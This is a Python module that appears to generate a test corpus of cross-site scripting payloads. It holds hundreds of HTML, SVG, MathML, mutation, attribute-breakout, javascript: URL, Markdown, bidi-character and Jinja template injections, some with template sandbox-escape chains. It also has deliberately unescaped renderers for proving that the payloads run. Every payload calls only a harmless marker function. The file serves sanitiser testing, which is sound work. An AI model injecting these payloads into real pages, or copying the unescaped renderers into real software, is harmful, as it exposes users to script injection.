"""What an attacker writes into a text so that a reader's browser runs it: made from a small grammar, always the same.

Every payload calls `ran(number)` or `alert(number)`, so that a browser can tell that it ran, and which. Its `sort` is
the careless generator that it is meant for; `careless` is that generator, by which the tests show that payloads live.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import chain, cycle
from urllib.parse import quote

from jinja2 import Environment
from markdown import markdown

MARK = "h0stile"
"""A word in every payload, by which it is found wherever it is shown."""


@dataclass(frozen=True)
class Payload:
    number: int
    sort: str
    text: str


# --- what is run -----------------------------------------------------------------------------------------------------

CODES = (
    "ran({n})",
    "alert({n})",
    "ran`{n}`",
    "window['r'+'an']({n})",
    "[{n}].map(ran)",
    "\\u0072an({n})",
    "setTimeout('ran({n})')",
    "eval('ra'+'n({n})')",
    "Function('ran({n})')()",
    "top.ran({n})",
    "self?.ran?.({n})",
    "(ran)({n})",
)
"""Ways of saying that a payload ran; none has double quotes, brackets `<>` or spaces, which would end an attribute."""


def _code(number: int) -> str:
    return CODES[number % len(CODES)].replace("{n}", str(number))


# --- whole elements --------------------------------------------------------------------------------------------------

ELEMENTS = (
    "<script>{js}</script>",
    "<SCRIPT\t>{js}</sCrIpT\n>",
    "<script/x>{js}</script>",
    "<script src=data:text/javascript,{url}></script>",
    "<script src='data:;base64,{base64}'></script>",
    "<script type=module>{js}</script>",
    "<img src=x onerror={js}>",
    "<img/src='x'/onerror={js}>",
    "<img src=x\nOnErRoR\n=\n'{js}'>",
    "<img src=x onerror={entities}>",
    "<image src=x onerror={js}>",
    "<img srcset=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><script>{entities}</script></svg>",
    "<svg><script href=data:text/javascript,{url} /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={js} attributename=x></svg>",
    "<svg><a xlink:href=javascript:{js}><text y=20>{mark}</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{js} /><text y=20>{mark}</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><image href=x onerror={js}></svg>",
    "<math href=javascript:{js}><mtext>{mark}</mtext></math>",
    "<math><maction xlink:href=javascript:{js}>{mark}</maction></math>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.ran({n})&lt;/script&gt;></iframe>",
    "<iframe onload={js}></iframe>",
    "<object data=javascript:{js}></object>",
    "<object data=x onerror={js}></object>",
    "<embed src=javascript:{js}>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}><option>{mark}</select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<button autofocus onfocus={js}>{mark}</button>",
    "<a href=# autofocus onfocus={js}>{mark}</a>",
    "<p tabindex=0 autofocus onfocus={js}>{mark}</p>",
    "<details open ontoggle={js}><summary>{mark}</summary></details>",
    "<video src=x onerror={js}></video>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={js}>{mark}</p>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=data:text/css,x onload={js}>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<p onclick={js}>{mark}</p>",
    "<p onmouseover={js}>{mark}</p>",
    "<a href=javascript:{js}>{mark}</a>",
    "<form action=javascript:{js}><button>{mark}</button></form>",
    "<form><button formaction=javascript:{js}>{mark}</button></form>",
    "<base href=javascript:{js}//><a href=#>{mark}</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<x onclick={js} tabindex=0>{mark}</x>",
    "<dialog open onclick={js}>{mark}</dialog>",
    "<template><img src=x onerror={js}></template><script>document.body.append(document.currentScript."
    "previousElementSibling.content.cloneNode(true))</script>",
)

# What changes its meaning when it is read, written and read again, or when a filter reads it otherwise than a browser.
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<title><p title="</title><img src=x onerror={js}>">',
    '<textarea><p title="</textarea><img src=x onerror={js}>">',
    '<style><p title="</style><img src=x onerror={js}>">',
    '<xmp><p title="</xmp><img src=x onerror={js}>">',
    '<noembed><p title="</noembed><img src=x onerror={js}>">',
    '<iframe><p title="</iframe><img src=x onerror={js}>">',
    '<svg><style><p title="</style><img src=x onerror={js}>">',
    "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>"
    "<img src=x onerror={js}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={js}></annotation-xml></math>",
    "<svg><desc><img src=x onerror={js}></desc></svg>",
    "<svg><title><style><img src=x onerror={js}></style></title></svg>",
    "<table><td><svg><p><style><img src=x onerror={js}></style>",
    "<!--><img src=x onerror={js}>-->",
    "<!---><img src=x onerror={js}>-->",
    "<!-- --!><img src=x onerror={js}> -->",
    "<?xml ><img src=x onerror={js}> ?>",
    "<!x ><img src=x onerror={js}>",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<svg><![CDATA[><img src=x onerror={js}>]]></svg><img src=x onerror={js}>",
    "</p/x=><img src=x onerror={js}>",
    "<scr<script>ipt>{js}</scr</script>ipt><img src=x onerror={js}>",
    "<img src=x title='`' alt='`onerror={js} ' onerror={js}>",
    "<<img src=x onerror={js}>//",
    "<img src=x onerror={js} <p>",
    "<p><a title='</p><img src=x onerror={js}>'><img src=x onerror={js}>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={js}>'>",
    "<plaintext><img src=x onerror={js}></plaintext><img src=x onerror={js}>",
)

# What ends the place that a text is put in; the picture after it is run anywhere.
_IMAGE = "<img src=x onerror={js}>"
BREAKOUTS = {
    "double": (
        '"' + ">" + _IMAGE,
        '" autofocus tabindex=0 onfocus="{js}',
        '"\nonmouseover="{js}" x="',
        '" onclick="{js}" x="',
    ),
    "single": ("'>" + _IMAGE, "' autofocus tabindex=0 onfocus='{js}", "'\tonclick='{js}' x='"),
    "bare": (">" + _IMAGE, "x autofocus tabindex=0 onfocus={js}", "x onclick={js} "),
    "comment": ("-->" + _IMAGE, "--!>" + _IMAGE, ">" + _IMAGE, "->" + _IMAGE),
    "title": ("</title>" + _IMAGE, "</TiTlE\n>" + _IMAGE),
    "textarea": ("</textarea>" + _IMAGE, "</textarea/x>" + _IMAGE),
    "style": ("</style>" + _IMAGE, "}}</style><script>{js}</script>"),
    "script": ('";{js};"', "</script>" + _IMAGE, "</script ><script>{js}</script>", '\\";{js}//'),
    "json": ("</script>" + _IMAGE, "<!--<script></script>-->" + _IMAGE, "</SCRIPT/>" + _IMAGE),
    "cdata": ("]]></svg>" + _IMAGE,),
}

# --- addresses -------------------------------------------------------------------------------------------------------

ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java&#10;script:{js}",
    "java&Tab;script:{js}",
    "javascript&colon;{js}",
    "&#106;avascript:{js}",
    "&#x6A;avascript:{js}",
    "&#x000000006A;avascript:{js}",
    "&#1;javascript:{js}",
    " javascript:{js}",
    "javascript://%0A{js}",
    "javascript://a.cn/%0A{js}",
    "javascript:/*https://a.cn/*/{js}",
    "javascript:{url}",
    "javascript:void({js})",
)

LINKS = (
    "[{mark}](<{address}>)",
    "[{mark}]({address})",
    "[{mark}]: {address}\n\n[{mark}]",
    "[{mark}][x]\n\n[x]: <{address}>",
    "![{mark}]({address})",
    "<{address}>",
    "[![{mark}](x.png)]({address})",
    '[{mark}]({address} "{mark}")',
    "| [{mark}]({address}) |\n| - |\n| x |",
    "> - [{mark}]({address})",
    "{mark}[^{n}]\n\n[^{n}]: [{mark}]({address})",
    "{mark}\n: [{mark}]({address})",
    "# [{mark}]({address})",
)

# Raw HTML by way of Markdown's own constructions.
MARKDOWN = (
    '[{mark}](https://a.cn "x\\"><img src=x onerror={js}>")',
    "[{mark}](https://a.cn '\"><img src=x onerror={js}>')",
    '![{mark}" onerror="{js}](x)',
    '![{mark}](x" onerror="{js})',
    '[{mark}](https://a.cn"onmouseover="{js})',
    "[{mark}](https://a.cn/><img/src=x/onerror={js}>)",
    '<https://a.cn/?"onmouseover="{js}>',
    "<https://a.cn><img src=x onerror={js}>",
    "`` `<img src=x onerror={js}>` ``<img src=x onerror={js}>",
    "```\n</code></pre><img src=x onerror={js}>\n```\n\n<img src=x onerror={js}>",
    "    </code></pre><img src=x onerror={js}>\n\n<img src=x onerror={js}>",
    "\\<img src=x onerror={js}><img src=x onerror={js}>",
    "*<img src=x onerror={js}>*",
    "**<img src=x onerror=**{js}**>**<img src=x onerror={js}>",
    "| <img src=x onerror={js}> |\n| - |\n| x |",
    "{mark}[^<img src=x onerror={js}>]\n\n[^<img src=x onerror={js}>]: x",
    "# <img src=x onerror={js}>",
    '# {mark} {{: onclick="{js}" }}\n\n<img src=x onerror={js}>',
    "<div markdown=1>\n<img src=x onerror={js}>\n</div>",
    "- <svg/onload={js}>",
    "&lt;img src=x onerror={js}&gt; <img src=x onerror={js}>",
    "\x02wzxhzdk:0\x03<img src=x onerror={js}>",
    "\x02klzzwxh:0000\x03<img src=x onerror={js}>",
    "[{mark}]: https://a.cn '\"><img src=x onerror={js}>'\n\n[{mark}] <img src=x onerror={js}>",
    '<data value="0"></data><img src=x onerror={js}>',
)

# --- templates and queries -------------------------------------------------------------------------------------------

TEMPLATES = (
    "{{{{ '<img src=x onerror={plain}>' }}}}",
    '{{{{ "<img src=x onerror={plain}>" | safe }}}}',
    "{{% set a = '<img src=x onerror={plain}>' %}}{{{{ a }}}}",
    "{{% raw %}}<img src=x onerror={plain}>{{% endraw %}}",
    "{{{{ cycler.__init__.__globals__.os.popen('echo') and '<img src=x onerror={plain}>' }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() and '<img src=x onerror={plain}>' }}}}",
    "{{% for x in [1] %}}<img src=x onerror={plain}>{{% endfor %}}",
    "{{# -#}}{{{{ lipsum.__globals__ and '<img src=x onerror={plain}>' }}}}",
    "{{% macro m() %}}<img src=x onerror={plain}>{{% endmacro %}}{{{{ m() }}}}",
)
QUERIES = (
    '{{{{ count("<img src=x onerror={js}>") }}}}',
    '{{{{ list("unit", type="<img src=x onerror={js}>") }}}}',
    "｛｛ count(“page”) ｝｝<img src=x onerror={js}>",
    '{{{{ "</data><img src=x onerror={js}>" }}}}',
    "{{{{ count(<img src=x onerror={js}>",
)
DIRECTIONS = (
    "\u202e>{js}=rorreno x=crs gmi<\u202c<img src=x onerror={js}>",
    "\u2066<img src=x onerror={js}>\u2069",
    "<img src=x \u200bonerror={js}><img src=x onerror={js}>",
    "<\u200dimg src=x><img src=x onerror={js}>",
    "\ufeff<img src=x onerror={js}>",
    "<img src=x onerror\u061c={js}><img src=x onerror={js}>",
)
FULL_WIDTH = ("＜img src=x onerror={js}＞<img src=x onerror={js}>", "‹img src=x onerror={js}›<img src=x onerror={js}>")
"""What a normalisation that comes after the escaping would make live."""

_CONTEXTS = ("", "</p></div></main>", "\"'>", "--></title></style></script></textarea>", "]]>", "路灯 ")
"""What stands before an element, to leave whatever it was put in."""


def _texts() -> Iterator[tuple[str, str]]:
    """Each template of a payload with its sort."""
    contexts = cycle(_CONTEXTS)
    for element in ELEMENTS * 4:
        yield "html", next(contexts) + element
    yield from (("html", one) for one in chain(MUTATIONS, DIRECTIONS, FULL_WIDTH))
    for sort, some in BREAKOUTS.items():
        yield from ((sort, one) for one in some)
    for address in ADDRESSES:
        yield "address", address
    addresses = cycle(ADDRESSES)
    for link in LINKS * 6:
        yield "markdown", link.replace("{address}", next(addresses))
    yield from (("markdown", one) for one in MARKDOWN)
    yield from (("template", one) for one in TEMPLATES)
    yield from (("html", one) for one in QUERIES)


def _filled(number: int, text: str) -> str:
    js = _code(number)
    return text.format(
        js=js,
        n=number,
        plain=f"ran({number})",
        mark=MARK,
        url=quote(f"ran({number})"),
        base64=b64encode(f"ran({number})".encode()).decode(),
        entities="".join(f"&#{ord(character)};" for character in js),
    )


def _payloads() -> Iterator[Payload]:
    for number, (sort, text) in enumerate(_texts(), 1000):
        filled = _filled(number, text)
        yield Payload(number, sort, filled if MARK in filled else f"{MARK} {filled}" if sort == "html" else filled)


PAYLOADS = tuple(_payloads())


# --- the careless ----------------------------------------------------------------------------------------------------

_CARELESS: dict[str, Callable[[str], str]] = {
    "html": lambda text: f"<main><div><p>{text}</p></div></main>",
    "double": lambda text: f'<p title="{text}">x</p>',
    "single": lambda text: f"<p title='{text}'>x</p>",
    "bare": lambda text: f"<p title={text}>x</p>",
    "comment": lambda text: f"<!--{text}--><p>x</p>",
    "title": lambda text: f"<title>{text}</title><p>x</p>",
    "textarea": lambda text: f"<textarea>{text}</textarea>",
    "style": lambda text: f"<style>/*{text}*/</style>",
    "script": lambda text: f'<script>var x = "{text}"</script>',
    "json": lambda text: f'<script type="application/ld+json">{{"name": "{text}"}}</script>',
    "cdata": lambda text: f"<svg><![CDATA[{text}]]></svg>",
    "address": lambda text: f'<p><a href="{text}">x</a></p>',
    "markdown": lambda text: markdown(text, extensions=["tables", "footnotes", "def_list", "attr_list", "md_in_html"]),
    "template": lambda text: Environment(autoescape=False).from_string(text).render(),
}
SORTS = tuple(_CARELESS)


def careless(payload: Payload) -> str:
    """A page's text as a generator makes it that believes whatever it is given."""
    return _CARELESS[payload.sort](payload.text)
